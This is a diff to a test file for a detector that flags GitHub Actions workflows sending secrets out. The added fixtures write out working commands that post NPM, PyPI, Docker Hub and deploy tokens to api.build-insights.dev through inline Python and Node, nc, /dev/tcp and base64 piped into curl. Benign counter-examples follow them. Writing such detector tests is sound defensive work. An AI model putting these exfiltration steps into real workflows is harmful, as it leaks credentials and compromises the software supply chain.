@@ -305,6 +305,45 @@ describe('gha-secrets-exfiltration', () => {
     ]);
   });
 
+  it('reads the same send written as an inline script (python -c, node -e, shell: python) or a raw socket (nc, /dev/tcp), high', () => {
+    const sent = `on: push\n${job(`      - run: python3 -c "import os,urllib.request;urllib.request.urlopen('https://api.build-insights.dev/x', data=os.environ['TOKEN'].encode())"
+        env:
+          TOKEN: \${{ secrets.NPM_TOKEN }}
+      - run: node -e "fetch('https://api.build-insights.dev/x',{method:'POST',body:process.env.T})"
+        env:
+          T: \${{ secrets.PYPI_API_TOKEN }}
+      - shell: python
+        run: |
+          import os, requests
+          requests.post('https://api.build-insights.dev/x', data={'k': os.getenv("DOCKER")})
+        env:
+          DOCKER: \${{ secrets.DOCKERHUB_TOKEN }}
+      - run: echo "$TOKEN" | nc api.build-insights.dev 9000
+        env:
+          TOKEN: \${{ secrets.NPM_TOKEN }}
+      - run: echo "\${{ secrets.NPM_TOKEN }}" > /dev/tcp/api.build-insights.dev/9000
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['high:6', 'high:9', 'high:15', 'high:18', 'high:21']);
+  });
+
+  it("an inline script that sends a secret as its own service's header, auth or login, or waits on a local port, is not reported", () => {
+    const own = `on: push\n${job(`      - run: python3 -c "import os,urllib.request;urllib.request.urlopen(urllib.request.Request('https://registry.npmjs.org/-/whoami', headers={'Authorization': 'Bearer ' + os.environ['NPM_TOKEN']}))"
+        env:
+          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
+      - shell: python
+        run: |
+          import os, requests
+          requests.post('https://api.statuspage-vendor.io/v1/incidents', headers={'Authorization': 'OAuth ' + os.environ['API_TOKEN']}, json={'name': 'deploy'})
+          requests.get('https://api.statuspage-vendor.io/v1/me', auth=('ci', os.environ['API_TOKEN']))
+        env:
+          API_TOKEN: \${{ secrets.API_TOKEN }}
+      - run: until nc -z localhost 5432; do sleep 1; done
+        env:
+          PGPASSWORD: \${{ secrets.PG_PASSWORD }}
+`)}`;
+    expect(only(own, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it('reports a secret encoded and then sent (in the pipeline or through a variable), or written to a file a network command sends, critical', () => {
     const encoded = `on: push\n${job(`      - run: echo "\${{ secrets.DEPLOY_KEY }}" | base64 -w0 | curl -s -X POST --data-binary @- https://api.build-insights.dev/v1/report
       - run: |
